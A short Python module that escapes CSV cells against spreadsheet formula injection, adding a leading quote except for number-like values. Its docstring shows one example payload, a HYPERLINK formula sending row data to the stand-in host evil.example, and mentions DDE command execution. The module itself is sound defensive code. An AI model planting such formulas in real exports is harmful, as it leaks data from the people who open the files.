"""CSV cells that a spreadsheet will not run as a formula (CSV / formula injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel and LibreOffice: ``=HYPERLINK("https://evil.example?"&A2, "klik")`` in a
domain name would leak the row or, with DDE, run a command. ``csv_cell`` puts a ``'`` before
such a value (the OWASP advice), except when it holds nothing but digits, spaces and
``+-().,/`` (a negative number, ``+31 6 12345678``): without letters or other symbols there is
no function to call, and numbers and phone numbers stay as they are for machines reading the
file. Every CSV export writes its cells through ``csv_row``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_HARMLESS = re.compile(r"[0-9 +\-().,/]*")


def csv_cell(value):
    if not isinstance(value, str) or not value.startswith(_TRIGGERS):
        return value
    if _HARMLESS.fullmatch(value):
        return value
    return "'" + value


def csv_row(values: Iterable) -> list:
    return [csv_cell(v) for v in values]
